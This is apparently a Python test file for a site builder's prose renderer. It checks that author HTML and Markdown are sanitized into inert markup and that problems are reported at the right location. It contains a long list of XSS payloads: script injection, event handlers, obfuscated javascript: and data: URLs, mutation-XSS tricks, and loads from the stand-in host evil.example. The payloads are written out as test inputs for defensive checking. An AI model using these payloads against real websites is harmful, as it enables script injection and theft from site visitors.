"""Whatever HTML an author writes comes out inert, and what ran or loaded is named at its place."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from site_builder.problems import Language
from site_builder.render.pictures import PictureShop
from site_builder.render.prose import ProseRenderer
from site_builder.views.values import Prose
from tests.render.prose_site import PATH, TARGETS, render

ELEMENTS = (
    "a abbr b blockquote br caption cite code dd del details div dl dt em figcaption figure h1 h2 "
    "h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub "
    "summary sup table tbody td tfoot th thead tr ul var wbr"
)
ALLOWED = frozenset(ELEMENTS.split())
STYLED = (
    "footnote footnote-ref footnote-backref missing-picture align-left align-center align-right "
    "nb phrases lines ln is-aside hang"
)
CLASSES = frozenset(STYLED.split())
SAFE_STARTS = ("#", "@/", "http://", "https://", "mailto:", "tel:")


class Inspector(HTMLParser):
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED
        for name, value in attrs:
            assert not name.startswith("on")
            assert name not in {"style", "srcdoc", "action", "formaction"}
            if name == "class":
                assert CLASSES.issuperset((value or "").split())
            if name == "href":
                assert (value or "").lower().startswith(SAFE_STARTS)
            if name == "src":
                assert (value or "").startswith("@/assets/")


def assert_inert(html: str) -> None:
    Inspector(convert_charrefs=True).feed(html)


HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "文字 <script>alert(1)</script> 后文",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//evil.example><input name=a><button>好</button></form>",
    "<a href='javascript:alert(1)'>点</a>",
    "<a href=' javascript:alert(1)'>点</a>",
    "<a href='java\tscript:alert(1)'>点</a>",
    "<a href='&#106;avascript:alert(1)'>点</a>",
    "<a href='&#xfdd0;javascript:alert(1)'>点</a>",
    "<a href='\ufdd0javascript:alert(1)'>点</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>点</a>",
    "<a href='vbscript:x'>点</a>",
    "<a href='//evil.example/'>点</a>",
    "<a href='\\\\evil.example\\x'>点</a>",
    "[点](javascript:alert(1))",
    "[点](JaVaScRiPt:alert(1))",
    "[点](javascript&#58;alert(1))",
    "[点](java&#x0A;script:alert(1))",
    "[点](&#x6A;avascript:alert(1))",
    "[点](<javascript:alert(1)>)",
    "[点](ｊavascript:alert(1))",
    "[点](javascript：alert(1))",
    "[点](data:text/html;base64,PHNjcmlwdD4=)",
    "[点][k]\n\n[k]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x" onerror="alert(1)](a.jpg)',
    '![x](a.jpg" onerror="alert(1))',
    '![x](a.jpg "t" onerror="alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    '<abbr title="<img>">x</abbr><abbr title="<a>">x</abbr>',
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0><base href=//evil>",
    "<p id=main class=hero>x</p><h2 id=search>题</h2>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><![if IE]><script>alert(1)</script><![endif]>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '```" onload="alert(1)\nx\n```',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '[^" onclick=alert(1)]\n\n[^" onclick=alert(1)]: x',
    "{: onclick=alert(1) }",
    "# 题 {: onclick=alert(1) }",
    "# <img src=x onerror=alert(1)>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 <b>x</b>",
    '<a href="#x" target="_blank" ping="//evil.example">x</a>',
    "<img srcset='//evil.example/x 2x' src=a.jpg>",
    "<img src='http://evil.example/x.png' alt='像素'>",
    "<video src=//evil.example></video><audio src=//evil.example></audio>",
    '<ol start="1" onclick="x"><li value=3>x</li></ol>',
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_comes_out_inert(text: str) -> None:
    assert_inert(render(text).html)


WORDS = (
    "< > \" ' ` ]( ) ![ [ # = @/ * __ | <script> </script> <img <a src= href= onerror= javascript: &# "
    "; // <svg> <style> </style> <!-- --> <table> ``` \x02 \x03 \ufdd0 甲 <math> title= <abbr \\ - 1、 "
    "｜ ： -- data: <![ a.jpg"
)
PIECES = st.sampled_from((*WORDS.split(" "), " ", "\n", "\n\n", "    "))


@given(st.lists(PIECES, max_size=24).map("".join))
@settings(max_examples=400, deadline=None)
def test_any_mixture_of_markup_comes_out_inert(text: str) -> None:
    html = render(text).html
    assert_inert(html)
    assert "\ufdd0" not in html


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("第一段\n\n后 <script>alert(1)</script>", ("E128", 3, 3, 8)),
        ("<script>\nalert(1)\n</script>", ("E128", 1, 1, 8)),
        ("好 <b onclick='x'>字</b>", ("E128", 1, 3, 3)),
        ("好 <b title='a'onclick='x'>字</b>", ("E128", 1, 3, 3)),
        ("甲\n<iframe src=x></iframe>", ("W128", 2, 1, 8)),
        ("<a href='javascript:x()'>点</a>", ("E305", 1, 10, 14)),
        ('<a href="&#106;avascript:x()">点</a>', ("E305", 1, 10, 19)),
        ("<a href=javascript:x>点</a>", ("E305", 1, 9, 12)),
    ],
)
def test_raw_html_that_cannot_stay_is_named_where_it_stands(
    text: str, expected: tuple[str, int, int, int]
) -> None:
    assert render(text).places == [expected]


def test_a_script_disappears_with_its_content() -> None:
    assert render("前 <script>alert(1)</script>后").html == "<p>前 后</p>"


def test_an_unknown_element_goes_and_its_words_stay() -> None:
    answer = render("<marquee>欢迎</marquee>")
    assert "欢迎" in answer.html
    assert "marquee" not in answer.html


def test_the_same_unwanted_element_is_named_once() -> None:
    assert render("<marquee>a</marquee> <marquee>b</marquee>").codes == ["W128"]


@pytest.mark.parametrize(
    "text",
    [
        "`<script>`",
        "```\n<script>onclick=</script>\n```",
        "<span style='color:red'>红</span>",
        "<o:p></o:p>",
        "<https://a.example>",
        "<hr@a.example>",
        "3<5 而 7>6",
        "<姓名>",
        "<kbd>Ctrl</kbd><details><summary>细节</summary>内容</details>",
    ],
)
def test_code_and_word_residue_and_allowed_elements_are_no_problem(text: str) -> None:
    assert render(text).codes == []


def test_allowed_elements_stay() -> None:
    text = "H<sub>2</sub>O <kbd>F5</kbd> <mark>重点</mark>"
    assert render(text).html == "<p>H<sub>2</sub>O <kbd>F5</kbd> <mark>重点</mark></p>"


def test_ids_of_an_author_are_dropped() -> None:
    assert render('<h2 id="main">题</h2>').html.strip() == "<h2>题</h2>"


def test_text_that_looks_like_a_marked_address_is_not_taken_for_one() -> None:
    html = render('写 ="@/x" 和 <abbr title="@/y">缩</abbr>').html
    assert html == '<p>写 ="@&#47;x" 和 <abbr title="@&#47;y">缩</abbr></p>'


def test_nesting_without_end_is_shown_as_plain_text() -> None:
    renderer = ProseRenderer({}, PictureShop(()))
    deep = "\n".join("    " * depth + "- 层" for depth in range(400))
    html = renderer.html(Prose(deep, PATH))
    assert [problem.code for problem in renderer.problems] == ["E312"]
    assert html.startswith("<p>- 层")
    assert renderer.html(Prose("**后文**", PATH)) == "<p><strong>后文</strong></p>"


def test_a_prose_is_rendered_once_and_its_problems_are_told_once() -> None:
    renderer = ProseRenderer(TARGETS, PictureShop(()), {PATH: Language.EN})
    first = renderer.html(Prose("某某", PATH))
    assert renderer.html(Prose("某某", PATH)) is first
    assert [(problem.code, problem.language) for problem in renderer.problems] == [
        ("E126", Language.EN)
    ]
